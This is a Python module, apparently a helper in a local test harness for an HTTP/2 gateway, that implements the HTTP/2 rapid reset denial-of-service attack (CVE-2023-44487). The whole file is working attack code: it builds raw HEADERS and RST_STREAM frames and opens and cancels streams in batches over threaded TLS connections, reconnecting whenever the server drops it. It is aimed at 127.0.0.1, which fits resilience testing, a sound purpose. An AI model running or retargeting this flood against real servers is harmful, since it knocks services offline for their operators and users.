"""HTTP/2 rapid reset (CVE-2023-44487) from one local client: streams opened and cancelled in the same packet."""

import contextlib
import socket
import ssl
import struct
import threading
import time

from .hold import client

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BATCH = 100


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(port):
    """GET / of the gate, every field a literal without indexing (RFC 7541 §6.2.2) or from the static table."""
    authority = f"127.0.0.1:{port}".encode()
    path = b"/orders/42"
    return b"\x82\x87" + bytes([0x04, len(path)]) + path + bytes([0x01, len(authority)]) + authority


def attack(port, until, counts):
    """Opens and cancels as fast as it can; comes back at once when it is cut off. `counts`: [streams, connections]."""
    context = client()
    context.set_alpn_protocols(["h2"])
    block = head(port)
    while time.monotonic() < until:
        with contextlib.suppress(OSError, ssl.SSLError), socket.create_connection(("127.0.0.1", port), timeout=2) as raw:
            with context.wrap_socket(raw, server_hostname="127.0.0.1") as stream:
                counts[1] += 1
                stream.sendall(PREFACE + frame(4, 0, 0))
                number = 1
                while time.monotonic() < until and number < 2**30:
                    batch = b""
                    for _ in range(BATCH):
                        batch += frame(1, 5, number, block) + frame(3, 0, number, struct.pack(">I", 8))
                        number += 2
                    stream.sendall(batch)
                    counts[0] += BATCH
                    drain(stream)
        time.sleep(0.01)


def drain(stream):
    stream.setblocking(False)
    with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError):
        while True:
            if not stream.recv(65536):
                raise OSError("closed")
    stream.settimeout(2)


def begin(port, seconds, clients=2):
    counts = [0, 0]
    until = time.monotonic() + seconds
    threads = [threading.Thread(target=attack, args=(port, until, counts), daemon=True) for _ in range(clients)]
    for thread in threads:
        thread.start()
    return threads, counts
